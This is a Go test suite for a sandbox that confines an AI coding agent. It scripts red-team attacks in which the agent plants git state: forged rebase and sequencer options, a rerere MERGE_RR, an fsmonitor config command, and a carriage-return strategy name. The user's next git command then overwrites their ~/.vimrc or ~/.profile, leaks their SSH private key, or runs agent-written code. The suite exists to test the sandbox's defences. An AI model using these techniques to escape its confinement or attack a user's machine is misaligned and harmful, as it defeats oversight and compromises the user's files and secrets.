package sandbox

import (
	"context"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"testing"
)

// red17bAm is shell, run inside in a repository of the user's (made by
// red17Repo), that leaves a `git am` of two patches stopped on the first
// (it conflicts), the second changing a file whose name is a line of vim
// script, then makes the options git am hands its apply
// (rebase-apply/apply-opt) write a fake ancestor index, which holds that
// name, to VICTIM.
const red17bAm = `export GIT_AUTHOR_NAME=a GIT_AUTHOR_EMAIL=a@b GIT_COMMITTER_NAME=a GIT_COMMITTER_EMAIL=a@b &&
N=$(printf 'x\ncall system("cd;touch vimrc-ran")\n"') && echo 1 > "$N" && git add -A && git commit -qm a && echo 1 >> f && git commit -qam c1 && echo 2 >> "$N" && git commit -qam c2 &&
git format-patch -q HEAD~2 && git reset -q --hard HEAD~2 && echo zz > f && git commit -qam conflict &&
{ git am 0001-*.patch 0002-*.patch >/dev/null 2>&1; ls .git/rebase-apply | tr '\n' ' '; } &&
printf "'--build-fake-ancestor=VICTIM'" > .git/rebase-apply/apply-opt && cat .git/rebase-apply/apply-opt`

// TestGitAmApplyOpt: rebase-apply/apply-opt (git am's, and `git rebase
// --apply`'s) holds options git am passes to its apply, read back at
// `git am --skip`/`--continue` (`git rebase --continue`): the agent
// writes --build-fake-ancestor=PATH there and the user's git writes an
// index file over PATH (or makes it), any file of the user's outside the
// workspace: here their ~/.vimrc, and the index holds a path name that
// is a line of vim script, which their next vim runs (red team 17b:
// the rule then read no rebase-apply file; now a changed rebase-apply is
// moved aside at the end).
func TestGitAmApplyOpt(t *testing.T) {
	requireRoot(t)
	d := newDriver(t, NativeOptions{})
	ws, marker, git := userDir(t)
	red17Repo(t, git, ws)
	home := t.TempDir()
	os.Chown(home, userDirOwner, userDirOwner)
	victim := filepath.Join(home, ".vimrc")
	os.WriteFile(victim, []byte("set nocompatible\n"), 0o644)
	os.Chown(victim, userDirOwner, userDirOwner)
	b := newBox(t, d, Spec{Workspace: ws, Owner: &User{UID: userDirOwner, GID: userDirOwner}})
	t.Log(b.must(strings.NewReplacer("VICTIM", victim).Replace(red17bAm)))
	b.end()
	status, _ := git(ws, "status")
	out, _ := git(ws, "am", "--skip")
	t.Log(status, out)
	if got, _ := os.ReadFile(victim); string(got) != "set nocompatible\n" {
		t.Errorf("the user's %s, outside the workspace, rewritten by git am --skip: %.40q", victim, got)
	}
	if _, err := exec.LookPath("vim"); err == nil {
		vim := exec.Command("vim", "-N", "-u", victim, "-i", "NONE", "-es", "-c", "qa!")
		vim.Env = []string{"HOME=" + marker, "PATH=/usr/bin:/bin"}
		vim.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: userDirOwner, Gid: userDirOwner}}
		vimOut, _ := vim.CombinedOutput()
		noMarks(t, marker, "the user (vim, with the ~/.vimrc git am wrote)", string(vimOut))
	}
}

// red17bRebaseIn is red17Rebase for the git directory $G (a worktree's)
// and its branch $B, run in the main worktree.
const red17bRebaseIn = `H=$(git rev-parse $B) && P=$(git rev-parse $B~1) && mkdir -p $G/rebase-merge &&
echo $B > $G/rebase-merge/head-name && echo $H > $G/rebase-merge/onto && echo $H > $G/rebase-merge/orig-head && touch $G/rebase-merge/interactive &&
echo 1 > $G/rebase-merge/msgnum && echo 2 > $G/rebase-merge/end && : > $G/rebase-merge/done`

// TestGitTodoWalkFlooded: the rule walks a repository's worktrees/* and
// modules/** git directories at the end, at most 1000 of them (and
// 1000 names a directory): the agent makes a thousand directories in
// .git/worktrees that the walk meets before the user's own worktree,
// whose rebase it left with an exec line. Holds: the user's
// .git/worktrees and .git/modules are read-only inside.
func TestGitTodoWalkFlooded(t *testing.T) {
	requireRoot(t)
	d := newDriver(t, NativeOptions{})
	ws, marker, git := userDir(t)
	red17Repo(t, git, ws)
	if out, err := git(ws, "worktree", "add", "-q", "wt"); err != nil {
		t.Fatal(out)
	}
	b := newBox(t, d, Spec{Workspace: ws, Owner: &User{UID: userDirOwner, GID: userDirOwner}})
	t.Log(b.must(strings.NewReplacer("MARK", marker).Replace(`cd /workspace && G=/workspace/.git/worktrees/wt B=refs/heads/wt && ` + red17bRebaseIn + ` && printf 'exec touch MARK/flooded\n' > $G/rebase-merge/git-rebase-todo &&
	cd /workspace/.git/worktrees && i=0 && while :; do mkdir x$i 2>&1 || break; i=$((i+1)); if [ $((i % 500)) = 0 ] && [ $i -ge 1500 ]; then n=$(ls -U | grep -nx wt | cut -d: -f1); [ "$n" -gt 1100 ] && break; fi; [ $i -ge 20000 ] && break; done; echo made $i, wt at $(ls -U | grep -nx wt)`)))
	b.end()
	todo, _ := os.ReadFile(filepath.Join(ws, ".git", "worktrees", "wt", "rebase-merge", "git-rebase-todo"))
	t.Logf("the worktree's to-do after: %q", todo)
	out, _ := git(filepath.Join(ws, "wt"), "-c", "core.editor=true", "rebase", "--continue")
	noMarks(t, marker, "the user (git rebase --continue in their worktree)", out)
}

// TestGitRebaseStrategyOpts: the rule keeps a strategy git "has built
// in", but resolve (and octopus) is git's shell script git-merge-resolve,
// run with rebase-merge/strategy_opts as "--OPT" arguments that it hands
// unquoted to git read-tree: strategy_opts "--index-output=PATH" makes
// the user's `git rebase --continue` write an index over PATH, any file
// of the user's outside the workspace (red team 17b; now the whole
// rebase-merge is moved aside).
func TestGitRebaseStrategyOpts(t *testing.T) {
	requireRoot(t)
	d := newDriver(t, NativeOptions{})
	ws, _, git := userDir(t)
	red17Repo(t, git, ws)
	home := t.TempDir()
	os.Chown(home, userDirOwner, userDirOwner)
	victim := filepath.Join(home, ".profile")
	os.WriteFile(victim, []byte("mine\n"), 0o644)
	os.Chown(victim, userDirOwner, userDirOwner)
	b := newBox(t, d, Spec{Workspace: ws, Owner: &User{UID: userDirOwner, GID: userDirOwner}})
	t.Log(b.must(red17Rebase + ` && echo resolve > .git/rebase-merge/strategy && echo "'--index-output=` + victim + `'" > .git/rebase-merge/strategy_opts && cat .git/rebase-merge/strategy_opts`))
	b.end()
	out, _ := git(ws, "-c", "core.editor=true", "rebase", "--continue")
	t.Log(out)
	if got, _ := os.ReadFile(victim); string(got) != "mine\n" {
		t.Errorf("the user's %s, outside the workspace, rewritten by git rebase --continue: %.40q", victim, got)
	}
}

// TestGitRerereMergeRR: .git/MERGE_RR (rerere's list of conflicted paths,
// NUL-separated "ID\tPATH") is read with no check of PATH, and rerere is
// on wherever .git/rr-cache exists (rerere.enabled unset): the agent
// makes rr-cache/ID and a MERGE_RR naming a file of the user's outside
// the workspace, and the user's next plain `git commit` (builtin/commit
// runs rerere after every commit) copies that file, "the user's
// resolution", to .git/rr-cache/ID/postimage, where the next session
// over the directory reads it: any file the user can read (red team
// 17b; now a changed MERGE_RR is moved aside at the end).
func TestGitRerereMergeRR(t *testing.T) {
	requireRoot(t)
	d := newDriver(t, NativeOptions{})
	ws, _, git := userDir(t)
	red17Repo(t, git, ws)
	home := t.TempDir()
	os.Chown(home, userDirOwner, userDirOwner)
	os.Chmod(home, 0o700)
	secret := filepath.Join(home, "id_ed25519")
	os.WriteFile(secret, []byte("PRIVATE KEY OF THE USER\n"), 0o600)
	os.Chown(secret, userDirOwner, userDirOwner)
	spec := Spec{Workspace: ws, Owner: &User{UID: userDirOwner, GID: userDirOwner}}
	const id = "0123456789012345678901234567890123456789"
	b := newBox(t, d, spec)
	t.Log(b.must(`mkdir -p .git/rr-cache/` + id + ` && printf '%s\t%s\0' ` + id + ` ` + secret + ` > .git/MERGE_RR && cat ` + secret + ` 2>&1; true`))
	b.end()
	os.WriteFile(filepath.Join(ws, "f"), []byte("the user's change\n"), 0o644)
	out, _ := git(ws, "commit", "-qam", "mine")
	t.Log("the user's git commit: ", out)
	b = newBox(t, d, spec)
	got := b.must(`cat .git/rr-cache/` + id + `/postimage 2>&1; true`)
	b.term.Close()
	b.sb.Destroy(context.Background())
	if strings.Contains(got, "PRIVATE KEY") {
		t.Errorf("the next session read the user's %s, outside the workspace: %q", secret, got)
	}
}

// TestGitOldDirNoHead (holds): ways to give a directory of the user's
// from before the session a HEAD, or a .git, without making a new entry
// named HEAD by open/mkdir: a hard link, a rename, an exchange with a
// HEAD the agent made in its own directory, O_TMPFILE and linkat, cp -a
// and tar of a repository over it; then objects and refs beside it. The
// user's git on the host must find no repository there.
func TestGitOldDirNoHead(t *testing.T) {
	requireRoot(t)
	d := newDriver(t, NativeOptions{})
	ws, marker, git := userDir(t)
	os.MkdirAll(filepath.Join(ws, "data", "sub"), 0o755)
	os.WriteFile(filepath.Join(ws, "data", "notes"), []byte("mine\n"), 0o644)
	filepath.Walk(ws, func(p string, _ os.FileInfo, _ error) error { return os.Lchown(p, userDirOwner, userDirOwner) })
	b := newBox(t, d, Spec{Workspace: ws, Owner: &User{UID: userDirOwner, GID: userDirOwner}})
	t.Log(b.must(strings.NewReplacer("MARK", marker).Replace(`cd /workspace && git init -q new 2>&1; ls new/.git >/dev/null 2>&1 && echo new is a repo; sleep 0.3; ls -lnd new/.git;
	ln new/.git/HEAD data/HEAD 2>&1; mv new/.git/HEAD data/HEAD 2>&1; mv new/.git data/.git 2>&1; mv new/.git data/sub/.git 2>&1; python3 -c '
import os, ctypes
libc = ctypes.CDLL(None, use_errno=True)
fd = os.open("data/sub", os.O_WRONLY | 0o20000000 | os.O_DIRECTORY, 0o644)
os.write(fd, b"ref: refs/heads/main\n")
r = libc.linkat(fd, b"", -100, b"data/sub/HEAD", 0x1000)
print("tmpfile linkat AT_EMPTY_PATH", r, ctypes.get_errno())
r = libc.linkat(-100, ("/proc/self/fd/%d" % fd).encode(), -100, b"data/sub/HEAD", 0x400)
print("tmpfile linkat proc", r, ctypes.get_errno())
r = libc.renameat2(-100, b"new/.git/HEAD", -100, b"data/notes", 2)
print("exchange with a user file", r, ctypes.get_errno())
' 2>&1; cp -a new/.git/. data/ 2>&1 | grep HEAD; tar -C new/.git -cf - . 2>/dev/null | tar -C data/sub -xf - 2>&1 | grep HEAD;
	mkdir -p data/objects data/refs data/sub/objects data/sub/refs; printf '[core]\n\tfsmonitor = "touch MARK/olddir; false"\n' > data/config; cp data/config data/sub/config; ls -la data data/sub data/.git data/sub/.git 2>&1 | grep -i "head\|git"; cat data/notes; true`)))
	b.end()
	for _, dir := range []string{"data", "data/sub"} {
		out, _ := git(filepath.Join(ws, dir), "--git-dir=.", "status")
		out2, _ := git(filepath.Join(ws, dir), "rev-parse", "--git-dir")
		noMarks(t, marker, "the user (in "+dir+")", out+out2)
	}
}

// TestGitRebaseStrategyCR: the rule trims a strategy's spaces before
// asking whether git has it built in, git only a last "\n" (or "\r\n"):
// "ort\r" is kept as ort, and git runs the program git-merge-ort\r,
// found on the user's PATH, which the agent can write where that PATH
// holds a directory of the workspace (a project's bin, direnv's
// PATH_add) (red team 17b; now the whole rebase-merge is moved aside).
func TestGitRebaseStrategyCR(t *testing.T) {
	requireRoot(t)
	d := newDriver(t, NativeOptions{})
	ws, marker, git := userDir(t)
	red17Repo(t, git, ws)
	b := newBox(t, d, Spec{Workspace: ws, Owner: &User{UID: userDirOwner, GID: userDirOwner}})
	t.Log(b.must(strings.NewReplacer("MARK", marker).Replace(`mkdir -p bin && printf '#!/bin/sh\ntouch MARK/strategy-cr\nexit 1\n' > "bin/git-merge-ort$(printf '\r')" && chmod +x bin/* && ` + red17Rebase + ` && printf 'ort\r' > .git/rebase-merge/strategy; echo done`)))
	b.end()
	cmd := exec.Command("setpriv", "--reuid="+strconv.Itoa(userDirOwner), "--regid="+strconv.Itoa(userDirOwner), "--clear-groups", "git", "-c", "core.editor=true", "rebase", "--continue")
	cmd.Dir = ws
	cmd.Env = append(append(os.Environ(), gitEnv...), "PATH="+filepath.Join(ws, "bin")+":"+os.Getenv("PATH"))
	out, _ := cmd.CombinedOutput()
	noMarks(t, marker, "the user (git rebase --continue, the workspace's bin on PATH)", string(out))
}

// TestGitSequencerOptsSpelled (holds): sequencer/opts spelled otherwise,
// for git's config parser (a section and key in capitals on one line, a
// value continued over a line, an include of a file the agent wrote,
// which git_config_from_file does not follow): moved aside, or not read.
func TestGitSequencerOptsSpelled(t *testing.T) {
	requireRoot(t)
	d := newDriver(t, NativeOptions{})
	ws, marker, git := userDir(t)
	opts := []string{`[Options]STRATEGY=x/../evil`, `[options]\n\tstrategy = x/..\\\n/evil`, `[include]\n\tpath = ../../inc`}
	var sh []string
	for i, o := range opts {
		r := "r" + strconv.Itoa(i)
		red17Repo(t, git, filepath.Join(ws, r))
		sh = append(sh, `cd /workspace/`+r+` && mkdir -p git-merge-x && printf '#!/bin/sh\ntouch MARK/`+r+`\nexit 1\n' > evil && chmod +x evil && printf '[options]\n\tstrategy = x/../evil\n' > inc &&
	mkdir -p .git/sequencer && git rev-parse HEAD > .git/sequencer/head && P=$(git rev-parse HEAD~1) && printf "pick $P c\npick $P c\n" > .git/sequencer/todo && printf '`+o+`\n' > .git/sequencer/opts`)
	}
	b := newBox(t, d, Spec{Workspace: ws, Owner: &User{UID: userDirOwner, GID: userDirOwner}})
	t.Log(b.must(strings.NewReplacer("MARK", marker).Replace(strings.Join(sh, " && ") + `; echo done`)))
	b.end()
	for i := range opts {
		out, _ := git(filepath.Join(ws, "r"+strconv.Itoa(i)), "-c", "core.editor=true", "cherry-pick", "--continue")
		noMarks(t, marker, "the user (git cherry-pick --continue)", out)
	}
}

// TestGitUserDirNoBtime: predates reads the directory's birth time, and
// where the filesystem keeps none (ext4 with 128-byte inodes, as mkfs
// makes on small or old filesystems; NFS, 9p, some FUSE) takes every
// directory for new: TestGitUserDirRenamedToGit's break is back there, a
// directory of the user's renamed to .git and back is handed to the
// dedicated uid (red team 17b). There, arm now walks the workspace for
// the directories it already holds.
func TestGitUserDirNoBtime(t *testing.T) {
	requireRoot(t)
	img := filepath.Join(t.TempDir(), "fs.img")
	mnt := t.TempDir()
	os.Chmod(mnt, 0o755)
	for _, c := range [][]string{{"truncate", "-s", "64M", img}, {"mkfs.ext4", "-q", "-I", "128", img}, {"mount", "-o", "loop", img, mnt}} {
		if out, err := exec.Command(c[0], c[1:]...).CombinedOutput(); err != nil {
			t.Skipf("%v: %v %s", c, err, out)
		}
	}
	t.Cleanup(func() { exec.Command("umount", "-l", mnt).Run() })
	ws := filepath.Join(mnt, "ws")
	os.MkdirAll(filepath.Join(ws, "docs"), 0o755)
	os.MkdirAll(filepath.Join(ws, "x"), 0o755)
	os.WriteFile(filepath.Join(ws, "docs", "notes"), []byte("mine\n"), 0o644)
	filepath.Walk(ws, func(p string, _ os.FileInfo, _ error) error { return os.Lchown(p, userDirOwner, userDirOwner) })
	if out, _ := exec.Command("stat", "-c", "%w", filepath.Join(ws, "docs")).CombinedOutput(); !strings.HasPrefix(string(out), "-") {
		t.Skipf("this filesystem keeps birth times: %s", out)
	}
	d := newDriver(t, NativeOptions{})
	b := newBox(t, d, Spec{Workspace: ws, Owner: &User{UID: userDirOwner, GID: userDirOwner}})
	// A repository the agent makes there is still handed over.
	t.Log(b.must(`cd /workspace && mv docs x/.git && sleep 0.3 && mv x/.git docs; ls -ln; for i in 1 2 3; do rm -rf new; git init -q new 2>/dev/null && break; done; ls new/.git/HEAD; true`))
	b.end()
	if uid := ownerOf(filepath.Join(ws, "new", ".git")); uid == userDirOwner || uid < 0 {
		t.Errorf("the agent's new repository's .git: uid %d", uid)
	}
	for _, p := range []string{"docs", "docs/notes"} {
		st, err := os.Stat(filepath.Join(ws, p))
		if err != nil {
			t.Fatal(err)
		}
		if uid := st.Sys().(*syscall.Stat_t).Uid; uid != userDirOwner {
			t.Errorf("the user's %s is now uid %d's", p, uid)
		}
	}
}
